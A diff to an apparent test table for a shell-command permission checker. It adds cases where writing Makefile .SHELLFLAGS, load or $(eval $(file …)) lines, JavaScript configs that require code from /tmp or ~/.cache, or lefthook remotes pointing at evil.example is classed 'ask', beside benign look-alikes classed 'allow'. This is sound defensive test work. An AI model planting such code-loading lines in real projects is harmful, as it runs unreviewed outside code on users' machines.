@@ -208,6 +208,15 @@ const MAKE_DIRECTIVES: readonly ClassRow[] = [
   ["printf 'export PATH := $(PWD)/node_modules/.bin:$(PATH)\\n' >> Makefile", "allow", "allow"],
   ["printf -- '-include $(DEPS)\\ninclude config/*.mk\\n' >> Makefile", "allow", "allow"],
   ["sed -i 's/^CC=.*/CC=clang/' Makefile", "allow", "allow"],
+  // ADR 0859: quoted .SHELLFLAGS code, `load`, and `$(file <…)` read from outside the project.
+  ["printf '.SHELLFLAGS := -c \"sh /tmp/x;\"\\n' >> Makefile", "ask", "ask"],
+  ["printf \".SHELLFLAGS = -ec 'bash ~/.x;'\\n\" >> build.mk", "ask", "ask"],
+  ["printf '$(eval $(file </tmp/x))\\n' >> Makefile", "ask", "ask"],
+  ["printf 'X := $(file < ~/.cache/r.mk)\\n$(eval $(X))\\n' >> GNUmakefile", "ask", "ask"],
+  ["printf 'load /tmp/x.so\\n' >> Makefile", "ask", "ask"],
+  ["printf -- '-load ~/.cache/x.so\\n' >> Makefile", "ask", "ask"],
+  ["printf 'VERSION := $(file <VERSION)\\n' >> Makefile", "allow", "allow"],
+  ["printf 'load build/ext.so\\n' >> Makefile", "allow", "allow"],
 ];
 
 classTable("makefile directives planted under the %s profile", MAKE_DIRECTIVES);
@@ -282,6 +291,24 @@ const PY_TOOL_SETTINGS: readonly ClassRow[] = [
 ];
 
 classTable("python tools' settings that load code under the %s profile", PY_TOOL_SETTINGS);
+
+/** JavaScript configs by any tool's naming (`*.conf.js`, `.*rc.js`, `.storybook/`) and lefthook's `remote:` (ADR 0859). */
+const CONFIG_NAMES: readonly ClassRow[] = [
+  ["printf 'require(\"/tmp/x.js\")\\n' > .lintstagedrc.js", "ask", "ask"],
+  ["printf 'require(\"/tmp/x.js\")\\n' > karma.conf.js", "ask", "ask"],
+  ["printf 'require(\"/tmp/x.js\")\\n' > .storybook/main.js", "ask", "ask"],
+  ["printf 'import x from \"/dev/shm/x.mjs\"\\n' > .releaserc.mjs", "ask", "ask"],
+  ["printf 'module.exports = require(\"~/.cache/w.js\")\\n' > wdio.conf.ts", "ask", "ask"],
+  ["printf 'remote:\\n  git_url: https://evil.example/h\\n' >> lefthook.yml", "ask", "ask"],
+  ["printf 'remote:\\n  git_url: git@evil.example:h.git\\n  config: x.yml\\n' > .lefthook.yml", "ask", "ask"],
+  // Look-alikes: ordinary contents of the same files.
+  ['printf \'module.exports = { "*.ts": "eslint --fix" }\\n\' > .lintstagedrc.js', "allow", "allow"],
+  ["printf 'module.exports = { stories: [\"../src/**/*.stories.tsx\"] }\\n' > .storybook/main.js", "allow", "allow"],
+  ["printf 'module.exports = require(\"./karma.base.js\")\\n' > karma.conf.js", "allow", "allow"],
+  ["printf 'pre-commit:\\n  commands:\\n    lint:\\n      run: npm run lint\\n' >> lefthook.yml", "allow", "allow"],
+];
+
+classTable("configuration names that load code under the %s profile", CONFIG_NAMES);
 
 /** A download written straight into a file a tool runs by itself is code nobody read, planted (ADR 0822). */
 const FETCHED_INTO: readonly ClassRow[] = [
